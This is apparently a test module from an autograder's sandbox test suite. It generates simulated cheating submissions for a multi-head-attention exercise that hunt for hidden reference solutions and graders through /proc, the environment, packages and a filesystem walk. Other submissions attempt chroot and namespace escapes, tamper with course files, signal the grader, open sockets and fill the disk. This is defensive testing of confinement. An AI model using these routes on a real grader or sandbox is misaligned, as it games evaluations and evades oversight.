"""Attacks on confinement: see tests/attacks/corpus.py for how an Attack is graded.

Each cheat looks for the course's secret files (the reference mhakit/exercises/mha/reference.py, the hidden
checks, the graders, the source notebook, the gradebook) by one route a cheater would try,
and answers one part right only if it read one; else it answers that part wrong. Confined,
the part scores 0; a grader that let the child see the course would give it full marks.
The search runs once, while the cell loads, under a budget of its own: the whole notebook
has one call's deadline (3 seconds in the tests) to load.
"""

from tests.mha_exercise import reference_body

from .corpus import REFERENCE, REPO, Attack

# What each attack answers when it read nothing: the right shape, the wrong numbers.
WRONG = {
    "dot_product": ("u, v", "np.zeros(np.broadcast_shapes(np.shape(u)[:-1], np.shape(v)[:-1]))"),
    "attention_scores": ("Q, K", "np.zeros(np.shape(Q)[:-1] + (np.shape(K)[-2],))"),
    "softmax": ("x, axis=-1", "np.zeros(np.shape(x))"),
    "attention": ("Q, K, V, mask=None", "(np.zeros(np.shape(Q)[:-1] + (np.shape(V)[-1],)), "
                  "np.zeros(np.shape(Q)[:-1] + (np.shape(K)[-2],)))"),
    "split_heads": ("X, num_heads", "np.zeros(np.shape(X)[:-2] + (num_heads, np.shape(X)[-2], "
                    "np.shape(X)[-1] // num_heads))"),
    "concat_heads": ("H", "np.zeros(np.shape(H)[:-3] + (np.shape(H)[-2], "
                     "np.shape(H)[-3] * np.shape(H)[-1]))"),
    "output_projection": ("C, W_o", "np.zeros(np.shape(C)[:-1] + (np.shape(W_o)[-1],))"),
}

# Shared by every cheat. ROUTE holds how a secret was read, never a byte of it.
HELPERS = """\
import os, stat, sys, time
ROUTE = []
_BUDGET = time.monotonic() + 1.5  # well inside the load's one deadline
_SEEN = set()
_NAMES = ('mhakit', 'exercises', 'grader', 'source', 'mha.py', 'reference.py',
          'hidden_checks.py', 'grading.py', 'gradebook.db')
_BELOW = ('mhakit/exercises/mha/reference.py', 'mhakit/grader/hidden_checks.py',
          'mhakit/grader/grading.py', 'source/mha/mha.ipynb', 'gradebook.db')
def _in_time():
    return not ROUTE and time.monotonic() < _BUDGET
def _read(path, route):
    # Non-blocking, regular files only: a FIFO or a device would hang the load.
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            head = os.read(fd, 1 << 16) if stat.S_ISREG(os.fstat(fd).st_mode) else b''
        finally:
            os.close(fd)
    except Exception:
        return False
    # Markers of the course's files only: the student's own notebook must not count.
    secret = (b'### BEGIN SOLUTION' in head or b'QUIZ_KEY' in head
              or b'def grade_notebook' in head or b'Hidden checks: the student' in head
              or (head.startswith(b'SQLite format 3') and path.endswith('gradebook.db'))
              or (b'def multi_head_attention(' in head and not path.endswith('.ipynb')))
    if secret and not ROUTE:
        ROUTE.append(route)
    return secret
def _look_in(folder, route):
    # The course's layout below a folder and each of its parents, by name and by listing
    # (a folder may be searchable but not listable, or the other way round).
    try:
        folder = os.path.abspath(folder)
    except Exception:
        return
    while _in_time() and folder not in _SEEN:
        _SEEN.add(folder)
        for below in _BELOW:
            _read(os.path.join(folder, below), route)
        try:
            names = os.listdir(folder)
        except Exception:
            names = []
        for name in names:
            if name in _NAMES or name.endswith('.ipynb'):
                path = os.path.join(folder, name)
                _read(path, route)
                try:
                    inside = os.listdir(path)[:200]
                except Exception:
                    inside = []
                for other in inside:
                    _read(os.path.join(path, other), route)
        folder = os.path.dirname(folder)
"""

PARENT_FOLDERS = """\
# Where the child runs, and where its own Python, numpy and arguments came from.
for start in [os.getcwd(), np.__file__, os.__file__, sys.executable] + sys.argv:
    if isinstance(start, str) and start.startswith('/'):
        _look_in(start, 'parent folders of ' + start)
"""

PROC = f"""\
def _paths_of(pid):
    base, found, links = '/proc/' + pid + '/', [], ['cwd', 'root', 'exe']
    try:
        links += ['fd/' + fd for fd in os.listdir(base + 'fd')[:64]]
    except Exception:
        pass
    for link in links:
        try:
            found.append(os.readlink(base + link))
        except Exception:
            pass
    # PWD, VIRTUAL_ENV, the command line's paths, and every file it has mapped.
    for name in ('environ', 'cmdline', 'maps'):
        try:
            with open(base + name, 'rb') as handle:
                text = handle.read(1 << 18)
        except Exception:
            continue
        for word in text.replace(b'=', b' ').replace(b':', b' ').replace(b'\\0', b' ').split():
            if word.startswith(b'/'):
                found.append(word.decode(errors='replace'))
    return found
for pid in ['self'] + [p for p in os.listdir('/proc') if p.isdigit()]:
    if not _in_time():
        break
    try:
        for found in _paths_of(pid):
            _look_in(found, '/proc/' + pid + ' names ' + found)
    except Exception:
        pass
    # Through the kernel's own links, which need no path of the course to be visible here.
    for path in ('/cwd/mhakit/exercises/mha/reference.py', {'/root' + str(REFERENCE)!r},
                 '/root/autograder/source/mhakit/exercises/mha/reference.py'):
        _read('/proc/' + pid + path, '/proc/' + pid + path)
"""

ENVIRONMENT = """\
# PWD, OLDPWD, VIRTUAL_ENV, HOME, PATH and PYTHONPATH entries: any value that is a path.
for value in list(os.environ.values()) + [os.path.expanduser('~')]:
    for piece in value.replace('=', os.pathsep).split(os.pathsep):
        if piece.startswith('/'):
            _look_in(piece, 'environment names ' + piece)
"""

INSTALLED_PACKAGES = """\
import glob, importlib.metadata, importlib.util, json, re
for name in ('mhakit', 'mhakit.exercises.mha', 'mhakit.exercises.mha.reference',
             'mhakit.grader.hidden_checks'):
    try:
        spec = importlib.util.find_spec(name)
        for path in [spec.origin] + list(spec.submodule_search_locations or ()):
            _look_in(path, 'find_spec ' + name)
    except Exception:
        pass
SITES = list(sys.path)
for prefix in {sys.prefix, sys.base_prefix, sys.exec_prefix, '/usr', '/usr/local'}:
    SITES += glob.glob(prefix + '/lib/python3*/*-packages') + glob.glob(prefix + '/lib/python3*')
# An editable install names its source in direct_url.json, and its RECORD lists its files.
try:
    DISTS = list(importlib.metadata.distributions(path=SITES))
except Exception:
    DISTS = []
for dist in DISTS:
    if not _in_time():
        break
    try:
        url = json.loads(dist.read_text('direct_url.json') or '{}').get('url', '')
        if url.startswith('file://'):
            _look_in(url[len('file://'):], 'direct_url.json of ' + dist.metadata['Name'])
        for file in dist.files or ():
            if file.name in _NAMES or file.suffix == '.pth' or 'editable' in file.name:
                _look_in(str(dist.locate_file(file)), 'RECORD of ' + dist.metadata['Name'])
    except Exception:
        pass
# .pth files, egg-links and editable finders hold the source's path in plain text.
for site in SITES:
    try:
        names = os.listdir(site) if _in_time() else []
    except Exception:
        names = []
    for name in names:
        path = os.path.join(site, name)
        if name == 'mhakit':
            _look_in(path, 'a package in ' + site)
        elif name.endswith(('.pth', '.egg-link')) or name.startswith('__editable__'):
            try:
                with open(path, errors='replace') as handle:
                    text = handle.read(1 << 16)
            except Exception:
                continue
            for found in re.findall(r"/[\\w.+/-]+", text):
                _look_in(found, name + ' names ' + found)
"""

SYS_PATH = f"""\
import importlib
_MODULE = 'mhakit.exercises.mha.reference'
FOLDERS = [{str(REPO)!r}, os.getcwd(), os.path.dirname(np.__file__)]
FOLDERS += [p for v in os.environ.values() for p in v.split(os.pathsep) if p.startswith('/')]
for start in list(FOLDERS):  # and every parent of each
    while os.path.dirname(start) != start:
        start = os.path.dirname(start)
        FOLDERS.append(start)
for folder in dict.fromkeys(FOLDERS):
    if not _in_time():
        break
    sys.path.insert(0, folder)
    try:
        importlib.invalidate_caches()
        if hasattr(importlib.import_module(_MODULE), 'multi_head_attention'):
            ROUTE.append('import ' + _MODULE + ' from ' + folder)
    except Exception:
        pass
    finally:
        sys.path.remove(folder)
        if not ROUTE:  # a namespace package, or a failed import, must not stick
            for _name in ('mhakit.exercises.mha.reference', 'mhakit.exercises.mha',
                          'mhakit.exercises', 'mhakit'):
                sys.modules.pop(_name, None)
"""

FILESYSTEM_WALK = """\
from collections import deque
# Breadth first: depth first would spend the whole budget deep inside /usr.
QUEUE, ENTRIES = deque(['/']), 0
while QUEUE and _in_time() and ENTRIES < 200000:
    try:
        with os.scandir(QUEUE.popleft()) as entries:
            for entry in entries:
                ENTRIES += 1
                if entry.is_dir(follow_symlinks=False):
                    if entry.path not in ('/proc', '/sys', '/dev'):
                        QUEUE.append(entry.path)
                elif entry.name in ('mha.py', 'reference.py', 'hidden_checks.py', 'grading.py',
                                    'gradebook.db'):
                    _read(entry.path, 'walk found ' + entry.path)
    except Exception:
        pass
"""

KNOWN_PATHS = f"""\
# The course's own layout, and Gradescope's.
for path in ({str(REFERENCE)!r},
             {str(REPO / 'mhakit' / 'grader' / 'hidden_checks.py')!r},
             {str(REPO / 'mhakit' / 'grader' / 'grading.py')!r},
             '/autograder/source/mhakit/exercises/mha/reference.py',
             '/autograder/source/mhakit/grader/hidden_checks.py'):
    _read(path, 'known path ' + path)
"""

# Out of the root it was given: a user namespace of its own would bring back the
# capabilities to chroot and mount; then the classic escape (chroot into a subfolder
# while the working folder stays outside, and walk up) and a fresh /proc. The kernel
# refuses a user namespace to a chrooted process, and Landlock refuses mounts and opens
# outside its grants; each attempt is tried on its own.
ESCAPE = f"""\
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.unshare(0x10000000 | 0x20000)  # a user and a mount namespace
try:
    os.makedirs('escape', exist_ok=True)
    os.chroot('escape')
    for _ in range(64):
        os.chdir('..')
    os.chroot('.')
except Exception:
    pass
try:
    os.makedirs('/tmp/proc-again', exist_ok=True)
    _libc.mount(b'proc', b'/tmp/proc-again', b'proc', 0, None)
except Exception:
    pass
for path in ({str(REFERENCE)!r}, '/autograder/source/mhakit/exercises/mha/reference.py',
             '/tmp/proc-again/1/root' + {str(REFERENCE)!r}):
    _read(path, 'escaped to ' + path)
"""

# Any capability left (root's, or a user namespace's) would undo the other layers: one
# CAP_SYS_MODULE loads a kernel module from memory. Counts as found if any is held.
CAPABILITIES = """\
import ctypes
class _Header(ctypes.Structure):
    _fields_ = [('version', ctypes.c_uint32), ('pid', ctypes.c_int)]
_held = (ctypes.c_uint32 * 6)()
if ctypes.CDLL(None).capget(ctypes.byref(_Header(0x20080522, 0)), _held) == 0 and any(_held):
    ROUTE.append('holds capabilities %s' % list(_held))
"""


def cheat(part, search):
    """The cell for ``part``: ``search`` runs once while the cell loads; the function
    answers right (the reference's own body) only if a course file was read."""
    parameters, wrong = WRONG[part]
    arguments = ", ".join(p.split("=")[0] for p in parameters.split(", "))
    right = reference_body(part).replace(f"def {part}(", f"def _right_{part}(", 1)
    guarded = "try:\n" + "".join(f"    {line}\n" for line in search.splitlines()) + (
        "except Exception:\n    pass\n")  # whatever fails, the search degrades to nothing
    return (HELPERS + guarded + right + "\n\n"
            f"def {part}({parameters}):\n"
            f"    if ROUTE:\n        return _right_{part}({arguments})\n"
            f"    return {wrong}\n")



def touch(files, grader=None, harm=False):
    """A search that counts as a route any change it could make to ``files`` or any
    signal it could send to ``grader`` (else its parent): chmod, chown, utime, an
    extended attribute, truncate, kill. Landlock governs none of them but truncate and
    signals, and those only from its ABI 3 and 6. Without ``harm`` each call sets what is
    already there (a mode, owner, times and size of the file's own, an attribute replaced
    that does not exist, signal 0): the course's own files stay as they were even where
    it gets through. With ``harm``, for files of a test's own, it does what a cheater
    would: mode 0777, another owner, times of 1970, an attribute, the file emptied, and
    SIGSTOP to the grader."""
    return f"""\
import errno, signal
def _touch(route, call):
    try:
        call()
    except OSError as error:
        if error.errno not in (errno.ENODATA, errno.EOPNOTSUPP):  # the kernel let it try
            return
    ROUTE.append(route)
for _path in {[str(f) for f in files]!r}:
    try:
        _st = os.stat(_path)
    except OSError:
        continue
    if {harm!r}:
        _touch('chmod', lambda: os.chmod(_path, 0o777))
        _touch('chown', lambda: os.chown(_path, 65534, 65534))
        _touch('utime', lambda: os.utime(_path, (0, 0)))
        _touch('setxattr', lambda: os.setxattr(_path, 'user.mhakit-attack', b'1'))
        _touch('truncate', lambda: os.truncate(_path, 0))
    else:
        _touch('chmod', lambda: os.chmod(_path, stat.S_IMODE(_st.st_mode)))
        _touch('chown', lambda: os.chown(_path, _st.st_uid, _st.st_gid))
        _touch('utime', lambda: os.utime(_path, ns=(_st.st_atime_ns, _st.st_mtime_ns)))
        _touch('setxattr', lambda: os.setxattr(_path, 'user.mhakit-attack', b'',
                                               os.XATTR_REPLACE))
        _touch('truncate', lambda: os.truncate(_path, _st.st_size))
_pid = {grader!r} or os.getppid()
if _pid > 1:  # 0 in the jail: its parent is outside its PID namespace
    _touch('kill', lambda: os.kill(_pid, signal.SIGSTOP if {harm!r} else 0))
"""


COURSE_FILES = [REFERENCE, REPO / "source" / "mha" / "mha.ipynb",
                REPO / "mhakit" / "grader" / "grading.py"]

# Looking is allowed: listing folders, /proc and its own environment must neither crash the
# child nor cost points, as long as the answer is the student's own.
LOOK_AROUND = """\
import os, sys
LOOKED = []
for look in (os.getcwd, lambda: os.listdir('.'), lambda: os.listdir('/'),
             lambda: os.listdir('/proc'), lambda: open('/proc/self/environ', 'rb').read(),
             lambda: os.readlink('/proc/self/cwd'), lambda: dict(os.environ),
             lambda: list(sys.path), lambda: os.listdir(os.path.dirname(np.__file__))):
    try:
        LOOKED.append(len(look()))
    except Exception as error:
        LOOKED.append(type(error).__name__)
"""

CONFINEMENT_ATTACKS = [
    Attack(name, zero=(part,), needs_confinement=True, edits={f"answer_{part}": cheat(part, search)})
    for name, part, search in [
        ("find-course-via-parent-folders", "dot_product", PARENT_FOLDERS),
        ("find-course-via-proc", "attention_scores", PROC),
        ("find-course-via-environment", "softmax", ENVIRONMENT),
        ("find-course-via-installed-packages", "concat_heads", INSTALLED_PACKAGES),
        ("find-course-via-sys-path", "output_projection", SYS_PATH),
        ("find-course-via-filesystem-walk", "split_heads", FILESYSTEM_WALK),
        ("find-course-via-known-paths", "attention", KNOWN_PATHS),
        ("escape-the-root-through-a-user-namespace", "softmax", ESCAPE),
        ("hold-a-capability", "split_heads", CAPABILITIES),
        ("chmod-chown-utime-xattr-truncate-the-course-and-signal-the-grader",
         "output_projection", touch(COURSE_FILES)),
    ]
] + [
    Attack("look-around-then-answer-honestly", edits={"answer_multi_head_attention": (
        LOOK_AROUND + reference_body("multi_head_attention"))}),
]


FILL_PREFIX = "mhakit-attack-fill-"


def everything(course, grader, bystander, tcp_port, udp_port, unix_path, bound):
    """One search that tries every harm a submission could do where the child keeps the
    grader's uid or a uid of the pool, each counted as a route if it gets through: change
    or empty ``course`` files (chmod, chown, utime, an attribute, truncate by path or by an
    open for reading), read them, stop the ``grader`` or a ``bystander`` of its uid, reach
    the network or a Unix socket of the grader's (``tcp_port``, ``udp_port``,
    ``unix_path``), write more than ``bound`` bytes however many files it takes, or write
    anywhere every uid may. It also leaves what a cleanup finds hard (a read-only folder
    with a file in it) and a process that ignores SIGTERM in a session of its own. The
    signal to every process is SIGWINCH, which every process but the bystander ignores: a
    hole stops nobody else's work, and the bystander, not the call's result (0 even where
    each process refused), says whether it arrived."""
    return f"""\
import errno, signal, socket
def _got(route, call, harmless=()):
    try:
        call()
    except OSError as error:
        if error.errno not in harmless:
            return
    except Exception:
        return
    ROUTE.append(route)
def _open_trunc(path):
    os.close(os.open(path, os.O_RDONLY | os.O_TRUNC))
def _first_byte(path):
    with open(path, 'rb') as handle:
        handle.read(1)
for _path in {[str(f) for f in course]!r}:
    _got('chmod ' + _path, lambda: os.chmod(_path, 0o777))
    _got('chown ' + _path, lambda: os.chown(_path, 65534, 65534))
    _got('utime ' + _path, lambda: os.utime(_path, (0, 0)))
    _got('setxattr ' + _path, lambda: os.setxattr(_path, 'user.mhakit-attack', b'1'))
    _got('truncate ' + _path, lambda: os.truncate(_path, 0))
    _got('O_TRUNC ' + _path, lambda: _open_trunc(_path))
    _got('read ' + _path, lambda: _first_byte(_path))
_got('stop the grader', lambda: os.kill({grader}, signal.SIGSTOP))
_got('stop a bystander', lambda: os.kill({bystander}, signal.SIGSTOP))
_got('pidfd stop a bystander', lambda: signal.pidfd_send_signal(
    os.pidfd_open({bystander}), signal.SIGSTOP))
# kill(-1) says it succeeded where every process refused it: the bystander tells instead.
try:
    os.kill(-1, signal.SIGWINCH)
except OSError:
    pass
def _tcp():
    with socket.create_connection(('127.0.0.1', {tcp_port}), timeout=1):
        pass
def _bind():
    with socket.socket() as server:
        server.bind(('127.0.0.1', 0))
        server.listen()
def _udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b'out', ('127.0.0.1', {udp_port}))
def _unix():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect({str(unix_path)!r})
for _name, _call in (('connect TCP', _tcp), ('bind TCP', _bind), ('send UDP', _udp),
                     ('connect to a Unix socket', _unix)):
    _got(_name, _call)
_written = 0
_chunk = b'x' * (1 << 20)
def _fill(folder, files):
    global _written
    for number in range(files):
        try:
            with open(os.path.join(folder, {FILL_PREFIX!r} + str(number)), 'wb') as handle:
                for _ in range(4):
                    handle.write(_chunk)
                    handle.flush()
                    _written += len(_chunk)
        except OSError:
            return
        if _written > {bound} + (8 << 20):
            ROUTE.append('wrote %d bytes' % _written)
            return
_fill('.', 40)
for _folder in ('/tmp', '/var/tmp', '/dev/shm', os.environ.get('TMPDIR', '.'), os.path.expanduser('~')):
    if os.path.realpath(_folder) != os.path.realpath('.'):
        _before = _written
        _fill(_folder, 1)
        if _written > _before:
            ROUTE.append('wrote in ' + _folder)
try:
    os.makedirs('held/inside')
    with open('held/inside/file', 'wb') as handle:
        handle.write(b'x' * 4096)
    os.chmod('held/inside', 0o500)
    os.chmod('held', 0o500)
except OSError:
    pass
try:
    if os.fork() == 0:
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        time.sleep(300)
        os._exit(0)
except OSError:
    pass
"""
